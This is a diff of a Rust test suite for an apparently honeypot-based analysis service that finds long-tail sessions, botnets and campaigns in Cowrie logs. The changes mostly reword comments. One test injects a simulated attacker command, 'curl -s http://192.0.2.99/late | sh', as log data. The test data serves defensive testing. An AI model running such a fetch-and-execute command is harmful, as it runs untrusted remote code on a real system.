@@ -1,4 +1,4 @@
-//! The analyses as jobs and on the command line, over a log with something in it to be found.
+//! The analyses as jobs and on the command line, over a log with planted findings.
 
 use std::{
     fmt::Write as _,
@@ -15,18 +15,18 @@ use crate::{
     office::Office,
 };
 
-/// The first moment of the log: a midnight.
+/// Start of the log: a midnight.
 const BEGIN: i64 = 1_699_920_000;
 const DAY: i64 = 86_400;
-/// Days of the log, and ordinary sessions of each.
+/// Days of the log, and ordinary sessions per day.
 const DAYS: i64 = 4;
 const DAILY: i64 = 150;
 /// Half a day after the end of the third day: three whole days and a part of one.
 const UNTIL: &str = "2023-11-17T12:00:00Z";
-/// A botnet: so many sources, each with a session a day.
+/// A botnet: number of sources, each with one session a day.
 const BOTS: i64 = 6;
 
-/// A log that is written session by session.
+/// A log being written, session by session.
 struct Log {
     path: PathBuf,
     text: String,
@@ -34,7 +34,7 @@ struct Log {
     sessions: i64,
 }
 
-/// What a session does: logins, commands, and a download if there is one.
+/// The content of a session: logins, commands, and a download if there is one.
 struct Script<'a> {
     source: String,
     client: &'a str,
@@ -62,7 +62,7 @@ impl Log {
         self.events += 1;
     }
 
-    /// Writes a session that begins then; its number.
+    /// Writes a session that begins at `at`. Returns its number.
     fn session(&mut self, at: i64, script: &Script<'_>) -> i64 {
         let n = self.sessions;
         self.sessions += 1;
@@ -105,8 +105,8 @@ impl Log {
         n
     }
 
-    /// Ordinary days: scanners that guess, and three kinds of commands; a botnet; and on the third day one
-    /// who does what nobody else does.
+    /// Writes ordinary days (scanners that guess, and three kinds of commands), a botnet, and on the third
+    /// day one session that does what no other does.
     fn fill(&mut self) {
         for day in 0..DAYS {
             for n in 0..DAILY {
@@ -172,7 +172,7 @@ impl Log {
         );
     }
 
-    /// What was written becomes part of the file.
+    /// Appends the buffered text to the file.
     fn flush(&mut self) {
         let mut file = OpenOptions::new().create(true).append(true).open(&self.path).unwrap();
         file.write_all(std::mem::take(&mut self.text).as_bytes()).unwrap();
@@ -198,7 +198,7 @@ impl Site {
     }
 }
 
-/// Hands in an analysis and waits for its result.
+/// Submits an analysis and waits for its result.
 fn analysed(office: &Office, job_type: &str, more: &[&str]) -> Value {
     let until = format!("until={UNTIL}");
     let window = if job_type == "longtail_analysis" { "time_window=84h" } else { "time_window=4d" };
@@ -228,7 +228,7 @@ async fn an_analysis_reads_each_day_once_and_finds_each_thing_once() {
     let _worker = office.worker("w", &["--queues", "longtail,snowshoe,botnet", "--concurrency", "2"]);
     let daily = DAILY + BOTS;
 
-    // The first run reads everything, and what it found stands in the table and on FINDINGS.
+    // The first run reads everything. Its findings are stored in the table and published on FINDINGS.
     let first = analysed(&office, "longtail_analysis", &[]);
     assert_eq!(first["analysis_type"], "full");
     let sessions = number(&first, "sessions");
@@ -246,7 +246,7 @@ async fn an_analysis_reads_each_day_once_and_finds_each_thing_once() {
     let markdown = first["markdown"].as_str().unwrap();
     assert!(markdown.contains("findings in") && markdown.contains("| severity |"), "{markdown}");
 
-    // The second run reads only the part of a day at the end, and has nothing new to say.
+    // The second run reads only the part of a day at the end, and finds nothing new.
     assert_eq!(
         hub.psql("select count(*), sum(sessions) from longtail_parts").trim(),
         format!("3|{}", 3 * daily + 1)
@@ -267,7 +267,7 @@ async fn an_analysis_reads_each_day_once_and_finds_each_thing_once() {
     assert_eq!(hub.count("select count(*) from outbox where subject like 'cowrie.findings.%'"), found);
     assert_eq!(hub.count("select count(*) from findings where revision > 1"), 0);
 
-    // A late event of the second day: that day is read anew, and no other.
+    // A late event of the second day: only that day is read again.
     let before = hub.psql("select from_at, computed_at from longtail_parts order by 1");
     let late = DAILY + BOTS + 3;
     let command = serde_json::json!({ "eventid": "cowrie.command.input", "input": "curl -s http://192.0.2.99/late | sh" });
@@ -280,13 +280,13 @@ async fn an_analysis_reads_each_day_once_and_finds_each_thing_once() {
     let changed: Vec<_> = before.lines().zip(after.lines()).map(|(before, after)| before != after).collect();
     assert_eq!(changed, [false, true, false]);
 
-    // From scratch it is the same.
+    // A full run gives the same.
     let full = analysed(&office, "longtail_analysis", &["full=true"]);
     assert_eq!((full["analysis_type"].as_str(), number(&full, "cached_sessions")), (Some("full"), 0));
     assert_eq!((number(&full, "findings_new"), number(&full, "findings_updated")), (0, 0));
     assert_eq!(full["findings"], third["findings"]);
 
-    // And straight from the log, and from the database without a job.
+    // So does an analysis of the log, and one of the database without a job.
     let analyse = |more: &[&str]| -> Value {
         let out =
             hub.run(&[&["analyse", "longtail", "--since", "84h", "--until", UNTIL, "--json"], more].concat());
@@ -303,7 +303,7 @@ async fn an_analysis_reads_each_day_once_and_finds_each_thing_once() {
         "nothing is kept that was not asked for"
     );
 
-    // What was analysed can be saved, and analysed again.
+    // An analysed data set can be saved and analysed again.
     for (name, source) in [("log.arrow", &["--log", &log][..]), ("database.arrow", &[])] {
         let file = hub.dir.path().join(name).display().to_string();
         assert_eq!(
@@ -358,7 +358,7 @@ async fn a_campaign_that_goes_on_is_one_finding_with_revisions() {
     assert!(!payloads.is_empty() && !payloads.contains("hk7%dune"), "{payloads}");
     assert!(!first.to_string().contains("hk7%dune"));
 
-    // Another member: the same campaign, once more published.
+    // A new member: the same campaign is published once more.
     let logins = ["hk7%dune-A", "hk7%dune-B", "hk7%dune-C"]
         .map(|password| ("svc-backup".to_owned(), password.to_owned()))
         .to_vec();
@@ -386,7 +386,7 @@ async fn a_campaign_that_goes_on_is_one_finding_with_revisions() {
         )) == 2
     });
 
-    // People read it.
+    // The command line shows the findings.
     let listed = hub.run(&["findings", "list", "--kind", "botnet", "--json"]);
     let listed: Value = serde_json::from_slice(&listed.stdout).unwrap();
     assert!(listed.as_array().unwrap().iter().any(|finding| finding["finding_id"] == id));
@@ -450,7 +450,7 @@ async fn hostile_sessions_are_analysed_and_shown_safely() {
     }
 }
 
-/// So many sessions in which nobody logged in, with so many different features.
+/// Inserts `daily` sessions a day without logins, with `different` distinct feature vectors.
 fn crowd(hub: &Hub, days: i64, daily: i64, different: i64) {
     hub.psql(&format!(
         "insert into sessions (sensor, session, started_at, last_event_at, closed, closed_at, event_count, login_attempts, login_successes, command_count,
@@ -527,7 +527,7 @@ async fn a_running_analysis_is_cancelled_within_a_second_and_its_thread_ends() {
         eventually("cancelled", || matches!(office.state(&job).as_str(), "cancelled" | "completed"));
         println!("{step}: cancelled after {:.2} s", asked.elapsed().as_secs_f64());
         assert_eq!(office.state(&job), "cancelled");
-        // Its thread is at rest: what a process has used in a second is next to nothing.
+        // Its thread has ended: the process uses almost no CPU in a second.
         eventually("the worker is at rest", || {
             let before = worker.cpu_ticks();
             let since = Instant::now();
